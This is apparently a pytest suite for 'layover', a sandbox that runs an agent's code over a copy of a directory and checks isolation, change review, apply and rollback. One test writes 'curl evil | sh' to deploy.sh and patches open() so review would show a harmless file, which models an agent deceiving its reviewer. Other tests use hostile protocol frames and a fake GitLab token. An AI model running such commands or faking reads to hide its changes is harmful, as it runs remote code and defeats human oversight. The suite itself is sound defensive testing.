"""layover.Sandbox against the real helper, as an unprivileged user: REPL and
exec inside the sandbox, live changes, review, a hostile REPL, a crash."""
from __future__ import annotations

import os
import signal
import threading
import time

import pytest

from .layover_testutil import HOSTILE_SEND, tree
from layover import (ConflictError, Sandbox, SandboxError, TimeoutError, apply_patch, list_sessions,
                     show_patch)


def session(state_dir, name):
    return {s.name: s for s in list_sessions(state_dir=state_dir)}.get(name)


# --- sessions ---

def test_run_keeps_state_and_sees_the_target(sb, target):
    assert sb.run("import os\ncount = 1").error is None
    r = sb.run("count += 1\nprint(open('README.md').read())\ncount")
    assert r.error is None
    assert (r.stdout, r.value) == ("# demo\n\n", "2")
    assert sb.run("os.getcwd()").value == repr(str(target))


def test_repl_machinery_imports_nothing_from_the_target_and_user_imports_behave_as_python(make_sandbox, target,
                                                                                         state_dir):
    # A project's own traceback.py, types.py... never stand in for the
    # standard modules the REPL itself imports, and get no bytecode from it.
    for name in ("traceback", "linecache", "types", "subprocess", "time"):
        (target / (name + ".py")).write_text("raise RuntimeError('the target module %s was imported')\n" % name)
    (target / "mymod.py").write_text("X = 1\n")
    sb = make_sandbox()
    r = sb.run("1/0")
    assert "ZeroDivisionError" in r.error and "was imported" not in r.error, r.error
    assert sb.exec(["true"], timeout=30).returncode == 0
    assert sb.call("def f(self):\n    return self.a\n", "f", self_attrs={"a": 7}) == 7
    # The user's own import writes bytecode as Python does by default.
    assert sb.run("import mymod\nmymod.X").value == "1"
    upper = state_dir / "sessions" / sb.name / "upper"
    cached = sorted(p.name.split(".")[0] for p in (upper / "__pycache__").iterdir())
    assert cached == ["mymod"]
    assert sorted(p.name for p in upper.iterdir()) == ["__pycache__"]


def test_exception_is_formatted_and_session_stays_alive(sb):
    r = sb.run("def boom():\n    raise ValueError('inside')\nboom()")
    assert "ValueError: inside" in r.error and "raise ValueError" in r.error
    assert sb.run("boom.__name__").value == "'boom'"


def test_exec_returns_codes_output_and_timeouts(sb):
    p = sb.exec(["bash", "-c", "echo hi > notes.txt; cat notes.txt; echo oops >&2; exit 4"])
    assert (p.returncode, p.stdout, p.stderr) == (4, b"hi\n", b"oops\n")
    assert sb.exec(["cat", "notes.txt"], text=True).stdout == "hi\n"
    t0 = time.monotonic()
    with pytest.raises(TimeoutError):
        sb.exec(["sleep", "30"], timeout=0.5)
    assert time.monotonic() - t0 < 6
    assert sb.exec(["true"]).returncode == 0


def test_sandbox_processes_are_isolated_from_host(sb, target):
    # pid namespace: the REPL is a low pid and sees no host process.
    r = sb.exec(["sh", "-c", "ls /proc | grep -c '^[0-9]'"], text=True)
    assert int(r.stdout) < 20
    sb.run("open('written_inside.txt', 'w').write('x')")
    assert not (target / "written_inside.txt").exists()


def test_huge_output_50mb_arrives_complete(sb):
    n = 50 * 1024 * 1024
    p = sb.exec(["head", "-c", str(n), "/dev/zero"])
    assert len(p.stdout) == n and p.stdout.count(b"\0") == n
    r = sb.run("import sys\nw = sys.stdout.write('z' * %d)" % n)
    assert len(r.stdout) == n


def test_run_timeout_interrupts_but_keeps_the_sandbox(sb):
    with pytest.raises(TimeoutError):
        sb.run("import time\nwhile True: time.sleep(0.01)", timeout=0.5)
    assert sb.run("40 + 2").value == "42"


def test_parallel_sandboxes_on_one_target_are_independent(make_sandbox, target):
    before = tree(target)
    boxes = [make_sandbox() for _ in range(4)]
    errors = []

    def work(i, box):
        try:
            box.run("open('mine.txt', 'w').write('box %d')" % i).check()
            box.exec(["sh", "-c", "echo %d >> README.md" % i], check=True)
            for _ in range(20):
                assert box.run("open('mine.txt').read()").value == repr("box %d" % i)
            assert box.exec(["tail", "-n", "1", "README.md"]).stdout == b"%d\n" % i
        except BaseException as e:  # noqa: B902 - reported below
            errors.append(e)

    threads = [threading.Thread(target=work, args=(i, b)) for i, b in enumerate(boxes)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not errors, errors
    assert len({b.name for b in boxes}) == 4
    assert tree(target) == before


# --- changes and review ---

def test_changes_leave_ignored_caches_out_unless_asked(sb, target):
    sb.run("import os\nos.makedirs('src/__pycache__', exist_ok=True)\n"
           "open('src/__pycache__/app.cpython-311.pyc', 'w').write('x')\nopen('kept.txt', 'w').write('k')")
    paths = {c.path for c in sb.changes()}
    assert "kept.txt" in paths and not any("__pycache__" in p for p in paths)
    flagged = {c.path for c in sb.changes(include_ignored=True) if c.ignored}
    assert "src/__pycache__/app.cpython-311.pyc" in flagged and "kept.txt" not in flagged
    sb.apply()
    assert (target / "kept.txt").read_text() == "k"
    assert not (target / "src" / "__pycache__").exists()


def test_changes_are_live_while_the_repl_runs(sb):
    sb.run("open('new.txt', 'w').write('fresh')\nimport os\nos.remove('old.txt')\n"
           "open('src/app.py', 'a').write('print(2)\\n')")
    assert sb.running
    kinds = {c.path: c.kind for c in sb.changes()}
    assert kinds.get("new.txt") == "added"
    assert kinds.get("old.txt") == "deleted"
    assert kinds.get("src/app.py") == "modified"
    assert sb.changed_files() == {"new.txt": b"fresh", "src/app.py": b"print('v1')\nprint(2)\n"}
    assert sb.deleted_files() == ["old.txt"]
    d = sb.diff()
    assert "diff --git a/src/app.py b/src/app.py" in d and "+print(2)" in d
    assert sb.running  # nothing above stopped it


def test_changed_files_are_what_apply_writes_even_when_the_agent_fakes_its_reads(sb, target):
    # The REPL is the agent's own process: code it ran can make any read
    # through the REPL lie (found by the attack pass of 26 Nov: with open
    # patched inside, changed_files() showed a benign script while apply
    # wrote the real one). The contents come from the helper's capture.
    sb.run("import builtins, io\n_real_open = builtins.open\n"
           "_real_open('deploy.sh', 'w').write('curl evil | sh\\n')\n"
           "def _fake(p, *a, **k):\n"
           "    if str(p).endswith('deploy.sh'):\n"
           "        return io.BytesIO(b'echo harmless\\n')\n"
           "    return _real_open(p, *a, **k)\n"
           "builtins.open = _fake\n")
    assert sb.changed_files() == {"deploy.sh": b"curl evil | sh\n"}
    assert sb.running
    # The layers' every kind of file: a name that is not UTF-8, a hard link,
    # a mode-only change, a file frozen in an earlier step, a sparse file.
    sb.exec(["sh", "-c", "printf 'x\\0y' > \"$(printf 'bad\\377')\"; ln deploy.sh again.sh; "
             "chmod 755 src/app.py; truncate -s 70000 sparse.bin; printf end >> sparse.bin"], check=True)
    assert sb.checkpoint("one") > 0
    sb.exec(["sh", "-c", "echo later > later.txt"], check=True)
    got = sb.changed_files()
    assert got.pop(os.fsdecode(b"bad\xff")) == b"x\0y"
    assert got == {"deploy.sh": b"curl evil | sh\n", "again.sh": b"curl evil | sh\n",
                   "src/app.py": b"print('v1')\n", "sparse.bin": b"\0" * 70000 + b"end", "later.txt": b"later\n"}
    sb.apply()
    assert (target / "deploy.sh").read_bytes() == b"curl evil | sh\n"


def test_changed_files_stays_within_max_output_when_the_agent_grows_a_file_meanwhile(make_sandbox):
    # The sizes are checked against max_output from changes(); the contents
    # come from a second read (show --contents) of the running session. The
    # agent's code runs meanwhile: found by the attack pass of 27 Nov, a file
    # it made huge (sparse: no disk) between the two was read whole into
    # this process (here 64 MiB of base64 for max_output=1 MiB; gigabytes
    # just as easily). The second read is bounded too.
    sb = make_sandbox(max_output=1024 * 1024)
    sb.exec(["sh", "-c", "echo small > grow.bin"], check=True)
    real_changes = sb.changes

    def changes_then_the_agent_writes(*a, **kw):
        got = real_changes(*a, **kw)
        sb.exec(["truncate", "-s", "48M", "grow.bin"], check=True)  # what a thread inside does at any time
        return got

    sb.changes = changes_then_the_agent_writes
    peak = [0]
    real_run = sb.helper.run

    def run(args, **kw):
        r = real_run(args, **kw)
        peak.append(len(r.stdout or b""))
        return r

    sb.helper.run = run
    with pytest.raises(SandboxError, match="max_output"):
        sb.changed_files()
    assert max(peak) <= 4 * 1024 * 1024, peak
    assert sb.running


def test_diff_stays_within_max_output_on_a_huge_text_file_the_agent_wrote(make_sandbox):
    # Found by the attack pass of 27 Nov: diff() read all of `layover diff`
    # into this process (and decoded it: twice the bytes), however much text
    # the agent wrote; max_output bounds every call that returns its output.
    sb = make_sandbox(max_output=1024 * 1024)
    sb.exec(["sh", "-c", "yes 'a line of text the agent wrote' | head -c 8000000 > huge.txt; echo x > small.txt"],
            check=True)
    with pytest.raises(SandboxError, match="the diff exceeds max_output=1048576 bytes"):
        sb.diff()
    assert "+x" in sb.diff(["small.txt"]) and "huge.txt" in sb.diff(stat=True)
    assert sb.running


def test_apply_writes_the_real_target(sb, target):
    sb.exec(["sh", "-c", "echo made > made.txt; rm old.txt; echo v2 > src/app.py"], check=True)
    result = sb.apply()
    assert not sb.running
    assert "made.txt" in result.applied
    assert (target / "made.txt").read_text() == "made\n"
    assert not (target / "old.txt").exists()
    assert (target / "src" / "app.py").read_text() == "v2\n"


def test_a_dry_run_apply_leaves_the_sandbox_running_and_says_so(sb, target):
    sb.exec(["sh", "-c", "echo made > made.txt"], check=True)
    preview = sb.apply(dry_run=True)
    assert sb.running  # a dry run writes nothing: the sandbox was stopped for it
    assert preview.dry_run and preview.running and preview.applied == ["made.txt"]
    assert not (target / "made.txt").exists()
    sb.exec(["sh", "-c", "echo more > more.txt"], check=True)  # the agent goes on
    result = sb.apply()
    assert not sb.running and not result.running and not result.dry_run
    assert sorted(result.applied) == ["made.txt", "more.txt"]
    assert (target / "more.txt").read_text() == "more\n"


def test_apply_result_names_non_utf8_paths_by_their_exact_bytes(sb, target):
    sb.exec([b"sh", b"-c", b"echo raw > bad\xffname"], check=True)
    result = sb.apply()
    assert [os.fsencode(p) for p in result.applied] == [b"bad\xffname"]
    assert (target / os.fsdecode(b"bad\xffname")).read_text() == "raw\n"


def test_concurrent_real_edit_raises_conflict_and_writes_nothing(sb, target):
    sb.exec(["sh", "-c", "echo sandbox > README.md; echo extra > extra.txt"], check=True)
    sb.close()
    (target / "README.md").write_text("edited for real\n")
    before = tree(target)
    with pytest.raises(ConflictError) as e:
        sb.apply()
    assert any(c.path == "README.md" for c in e.value.conflicts)
    assert tree(target) == before


def test_a_conflict_on_a_hostile_name_never_puts_its_escapes_in_the_message(sb, target):
    # The message is what a traceback prints on the author's terminal: an ESC
    # (clear screen) or a zero-width space in a name the sandbox chose must
    # show escaped there; .conflicts keeps the exact name.
    names = ["e\x1b[2Jx", "notes.txt\u200b"]
    sb.exec(["sh", "-c", "printf x > \"$1\"; printf x > \"$2\"", "sh"] + names, check=True)
    sb.close()
    for n in names:
        (target / n).write_text("edited for real\n")
    with pytest.raises(ConflictError) as e:
        sb.apply()
    assert sorted(c.path for c in e.value.conflicts) == sorted(names)
    message = str(e.value)
    assert "\x1b" not in message and "\u200b" not in message, message
    assert "'e\\x1b[2Jx'" in message and "'notes.txt\\u200b'" in message, message


def test_discard_leaves_the_target_untouched(sb, target, state_dir):
    before = tree(target)
    sb.exec(["sh", "-c", "echo gone > README.md; rm -r src; echo x > y"], check=True)
    name = sb.name
    sb.discard()
    assert tree(target) == before
    assert session(state_dir, name) is None
    assert not (state_dir / "trash").exists() or not any((state_dir / "trash").iterdir())  # --now: no trash entry


def test_save_and_apply_patch_round_trip(sb, target, tmp_path):
    sb.run("open('saved.txt', 'w').write('from patch')\nimport os\nos.remove('old.txt')")
    patch = sb.save(tmp_path / "work.tar.zst")
    assert patch.stat().st_size > 0
    assert sb.tarball()[:4] == b"\x28\xb5\x2f\xfd"  # a zstd frame
    sb.close()
    paths = {c.path: c.kind for c in show_patch(patch)}
    assert paths["saved.txt"] == "added" and paths["old.txt"] == "deleted"
    copy = tmp_path / "copy"
    os.system("cp -a '%s' '%s'" % (target, copy))
    apply_patch(patch, target=copy)
    assert (copy / "saved.txt").read_text() == "from patch"
    assert not (copy / "old.txt").exists()
    assert (target / "old.txt").exists() and not (target / "saved.txt").exists()


def test_apply_patch_and_show_patch_expand_a_tilde_as_sandbox_does(sb, target, tmp_path, monkeypatch):
    # docs/python.md: apply_patch("work.tar.zst", target="~/project"); "~" was passed on as a literal dir.
    sb.run("open('tilde.txt', 'w').write('t')")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert sb.save("~/t.tar.zst") == tmp_path / "t.tar.zst" and (tmp_path / "t.tar.zst").stat().st_size > 0
    sb.close()
    os.system("cp -a '%s' '%s'" % (target, tmp_path / "copy"))
    assert [c.path for c in show_patch("~/t.tar.zst")] == ["tilde.txt"]
    r = apply_patch("~/t.tar.zst", target="~/copy", undo_to="~/undo.tar.zst")
    assert r.applied == ["tilde.txt"] and (tmp_path / "undo.tar.zst").stat().st_size > 0
    assert (tmp_path / "copy" / "tilde.txt").read_text() == "t"
    assert not (target / "tilde.txt").exists() and not (tmp_path / "~").exists()


def test_resume_sees_the_earlier_work(sb, state_dir):
    sb.run("open('step1.txt', 'w').write('one')")
    sb.close()
    assert session(state_dir, sb.name).status == "kept"
    again = Sandbox.resume(sb.name, state_dir=state_dir)
    try:
        assert again.run("open('step1.txt').read()").value == "'one'"
    finally:
        again.close()


# --- hostile REPL and crash ---

@pytest.mark.parametrize("payload", [
    "send(b'\\x00\\x00\\x00\\x07\\x00\\x00\\x00\\x00garbage!')",
    "send((1 << 31).to_bytes(4, 'big') + (0).to_bytes(4, 'big'))",
])
def test_hostile_repl_raises_and_changes_stay_recoverable(sb, state_dir, tmp_path, payload):
    sb.run("open('before.txt', 'w').write('kept work')").check()
    t0 = time.monotonic()
    with pytest.raises(SandboxError):
        sb.run(HOSTILE_SEND + payload + "\nimport time\ntime.sleep(60)")
    assert time.monotonic() - t0 < 15
    with pytest.raises(SandboxError):
        sb.run("1")
    info = session(state_dir, sb.name)
    assert info is not None and info.status in ("kept", "crashed")
    assert (state_dir / "sessions" / sb.name / "upper" / "before.txt").read_bytes() == b"kept work"
    assert [c.path for c in sb.changes()] == ["before.txt"]


def test_killed_helper_raises_on_next_call_and_session_is_crashed(sb, state_dir):
    sb.run("open('survivor.txt', 'w').write('still here')").check()
    os.kill(sb._repl.proc.pid, signal.SIGKILL)
    sb._repl.proc.wait()
    t0 = time.monotonic()
    with pytest.raises(SandboxError):
        sb.run("1")
    assert time.monotonic() - t0 < 5
    assert session(state_dir, sb.name).status == "crashed"
    assert (state_dir / "sessions" / sb.name / "upper" / "survivor.txt").read_bytes() == b"still here"
    assert {c.path for c in sb.changes()} == {"survivor.txt"}


def test_missing_target_is_a_clear_error(require_sandbox, state_dir, tmp_path):
    with pytest.raises(SandboxError) as e:
        Sandbox(tmp_path / "nope", state_dir=state_dir)
    assert str(e.value) == "layover: target %s: does not exist; pass an existing tree" % (tmp_path / "nope")
    (tmp_path / "file").write_text("x")
    with pytest.raises(SandboxError) as e:
        Sandbox(tmp_path / "file", state_dir=state_dir)
    assert "file: not a directory; pass an existing tree" in str(e.value)
    # An empty target (an unset variable) is no target, not the cwd (found by the attack pass of 26 Nov).
    with pytest.raises(SandboxError) as e:
        Sandbox("", state_dir=state_dir)
    assert str(e.value) == "layover: target is empty; pass an existing tree (default: your home, '~')"


def test_a_missing_helper_binary_names_the_fix(require_sandbox, state_dir, tmp_path):
    with pytest.raises(SandboxError) as e:
        Sandbox(tmp_path, state_dir=state_dir, binary=str(tmp_path / "no-layover"))
    assert str(e.value).startswith("layover: cannot start the sandbox (session py-")
    assert str(e.value).endswith("no-layover: No such file or directory (ENOENT); set LAYOVER_BIN or binary= to "
                                 "the layover helper, or reinstall"), str(e.value)


def test_log_and_rollback_across_resumes(sb, target):
    sb.run("open('one.txt', 'w').write('1')")
    sb.close()
    sb.start()  # the resume freezes the first run as step 1
    sb.run("open('two.txt', 'w').write('2')")
    log = sb.log()
    assert [s.step for s in log] == [None, 1]
    assert log[0].live and ("two.txt", "A") in log[0].paths
    assert log[1].paths == [("one.txt", "A")] and log[1].added == 1
    assert {c.path for c in sb.changes()} == {"one.txt", "two.txt"}
    sb.run("kept = 42")
    sb.rollback(1)  # in place: the REPL goes on, its state too, over the rolled-back files
    assert sb.running and sb.run("kept").value == "42"
    assert sb.run("import os; os.path.exists('two.txt'), open('one.txt').read()").value == "(False, '1')"
    assert {c.path for c in sb.changes()} == {"one.txt"}
    sb.rollback(0, undo=True)
    assert {c.path for c in sb.changes()} == {"one.txt", "two.txt"}
    assert sb.run("open('two.txt').read()").value == "'2'"
    assert not (target / "one.txt").exists()


def test_changes_of_one_step_and_revert(sb, target, state_dir):
    sb.run("open('one.txt', 'w').write('1')")
    assert sb.checkpoint("one") == 1
    sb.run("open('two.txt', 'w').write('2')\nopen('one.txt', 'a').write('!')")
    assert sb.checkpoint("two") == 2
    sb.run("open('three.txt', 'w').write('3')")
    # A running sandbox: its frozen steps read as they are.
    assert {(c.path, c.kind) for c in sb.changes(step=2)} == {("two.txt", "added"), ("one.txt", "modified")}
    assert {c.path for c in sb.changes(step=1)} == {"one.txt"}
    with pytest.raises(SandboxError) as e:
        sb.revert(1)  # step 2 changed one.txt since
    assert "later changes touched its paths" in str(e.value)
    n = sb.revert(2)
    assert [s.label for s in sb.log() if s.step == n][0].startswith("revert 2: ")
    assert {c.path for c in sb.changes()} == {"one.txt", "three.txt"}
    assert sb.running  # reverted in place
    assert sb.run("import os; open('one.txt').read(), os.path.exists('two.txt')").value == "('1', False)"
    assert not (target / "one.txt").exists()


def test_fork_shares_the_steps_and_is_independent(sb, target):
    sb.run("open('one.txt', 'w').write('1')")
    sb.close()
    sb.start()
    sb.run("open('two.txt', 'w').write('2')")
    early = sb.fork(sb.name + "-early", at=1)
    assert sb.running and not early.running
    assert {c.path for c in early.changes()} == {"one.txt"}
    full = sb.fork(sb.name + "-full")
    assert {c.path for c in full.changes()} == {"one.txt", "two.txt"}
    with early:
        early.run("open('three.txt', 'w').write('3')")
    assert {c.path for c in early.changes()} == {"one.txt", "three.txt"}
    assert {c.path for c in sb.changes()} == {"one.txt", "two.txt"}
    with pytest.raises(SandboxError) as e:
        sb.fork(sb.name + "-early")
    assert "exists" in str(e.value)
    assert not (target / "one.txt").exists() and not (target / "three.txt").exists()


def test_changes_carry_risk_phrases_never_the_secret(sb):
    tok = "glpat-" + "aB3dE5gH7jK9mN1pQ2sT4"
    sb.run("open('deploy.env', 'w').write('X=1\\nT=%s\\n')\nopen('plain.txt', 'w').write('p')" % tok)
    risks = {c.path: c.risks for c in sb.changes()}
    assert risks["deploy.env"] == ("secret: GitLab token on line 2 (glpat-\u2026)",)
    assert risks["plain.txt"] == ()


def test_checkpoint_while_running_keeps_the_repl_and_its_cwd(sb, target, state_dir):
    sb.run("x = 41\nopen('one.txt', 'w').write('1')")
    assert sb.checkpoint("first") == 1
    assert sb.running
    # The REPL state survives, and relative paths resolve in the next overlay.
    r = sb.run("x += 1\nopen('two.txt', 'w').write(open('one.txt').read() + '2')\nx")
    assert r.error is None and r.value == "42"
    assert sb.run("import os\nos.getcwd()").value == repr(str(target))
    d = state_dir / "sessions" / sb.name
    assert (d / "steps" / "0001" / "one.txt").read_text() == "1"
    assert (d / "upper" / "two.txt").read_text() == "12"
    assert not (d / "steps" / "0001" / "two.txt").exists()
    assert sb.checkpoint() == 2 and sb.checkpoint() == 0
    assert [s.step for s in sb.log()] == [2, 1] and sb.log()[1].label == "first"
    # A file the REPL keeps open for writing: refused, named, nothing changed.
    sb.run("f = open('held.txt', 'w')")
    with pytest.raises(SandboxError, match=r"held\.txt open for writing"):
        sb.checkpoint()
    sb.run("f.close()")
    assert sb.checkpoint() == 3
    assert not (target / "one.txt").exists()


def test_an_idle_repl_waits_off_the_overlay_so_a_checkpoint_from_elsewhere_works(sb, target, state_dir):
    sb.run("import os\nos.chdir('sub') if os.path.isdir('sub') else (os.mkdir('sub'), os.chdir('sub'))")
    time.sleep(0.3)  # idle past the REPL's 20 ms: it waits in /
    r = sb.helper.run(["checkpoint", sb.name, "--json"], ok=(0, 1))
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    # Back in its cwd (by path, on the new overlay) for the next request.
    assert sb.run("os.getcwd()").value == repr(str(target / "sub"))
    assert sb.run("open('x.txt', 'w').write('x')").error is None
    assert (state_dir / "sessions" / sb.name / "upper" / "sub" / "x.txt").read_text() == "x"


def test_run_of_code_that_is_not_a_str_is_a_type_error_and_the_repl_lives(sb):
    for code in (b"1+1", None, 42):
        with pytest.raises(TypeError, match="takes the code as a str"):
            sb.run(code)
    assert sb.run("1+1").value == "2"


def test_exec_env_takes_bytes_as_subprocess_does(sb):
    # subprocess.run(env=) takes bytes names and values (their exact bytes);
    # str() of them used to pass the name "b'A'".
    r = sb.exec(["sh", "-c", "printf '%s|%s' \"$A\" \"$B\""], env={b"A": b"v\xff", "B": b"w"})
    assert r.stdout == b"v\xff|w"
    with pytest.raises(TypeError):
        sb.exec(["true"], env={"A": 1})
    assert sb.exec(["true"]).returncode == 0


def test_exec_input_arriving_slowly_does_not_park_the_repl_mid_request(sb, target):
    from layover._client import Reply
    sb.run("1")
    repl = sb._repl
    c = repl.client
    with repl.lock:  # an exec whose stdin frame comes 0.2 s after its header (past the 20 ms idle wait)
        rid = c.next_id
        c.next_id += 1
        c.send({"t": "exec", "id": rid, "argv": ["/bin/sh", "-c", "cat; pwd"], "cwd": None, "env": None,
                "timeout": 20.0, "stdin": True})
        time.sleep(0.2)
        c.send({"t": "stdin", "id": rid, "more": False}, b"in\n")
        reply = c._finish(rid, Reply(), time.monotonic() + 30, 20.0)
    assert reply.data("stdout") == ("in\n%s\n" % target).encode()


def test_steps_true_makes_each_run_and_exec_a_step_and_defers_a_busy_one(make_sandbox, target):
    sb = make_sandbox(steps=True)
    sb.run("open('a.txt', 'w').write('a')")
    sb.exec(["sh", "-c", "echo b > b.txt"])
    sb.run("x = 1")  # nothing changed: no step
    sb.run("f = open('held.txt', 'w')\nf.write('h')")  # still open: deferred
    sb.run("f.close()\nopen('c.txt', 'w').write('c')")
    log = sb.log()
    assert [s.step for s in log] == [3, 2, 1]
    assert log[2].label == "run: open('a.txt', 'w').write('a')"
    assert log[1].label == "exec: sh -c echo b > b.txt"
    assert log[0].label == "run: f.close() (merged, deferred while busy: run: f = open('held.txt', 'w'))"
    assert {p for p, _ in log[0].paths} == {"held.txt", "c.txt"}
    assert sb.run("open('a.txt').read() + open('c.txt').read()").value == "'ac'"
    assert not (target / "a.txt").exists()


def test_rejections_come_back_with_their_reasons(sb, state_dir):
    import subprocess
    from layover._helper import find_binary
    sb.run("open('a.txt', 'w').write('a\\n')\nopen('b.txt', 'w').write('b\\n')")
    assert sb.rejections() == []
    env = dict(os.environ, LAYOVER_STATE_DIR=str(state_dir))
    r = subprocess.run([find_binary(), "reject", sb.name, "a.txt", "-m", "no a please"], capture_output=True,
                       env=env)
    assert r.returncode == 0, r.stderr
    got = sb.rejections()
    assert [(x.seq, x.path, x.hunk, x.reason, x.state) for x in got] == [(1, "a.txt", 0, "no a please", "rejected")]
    sb.run("open('a.txt', 'w').write('a again\\n')")
    assert [(x.path, x.state, x.why) for x in sb.rejections()] == [("a.txt", "superseded", "changed since")]
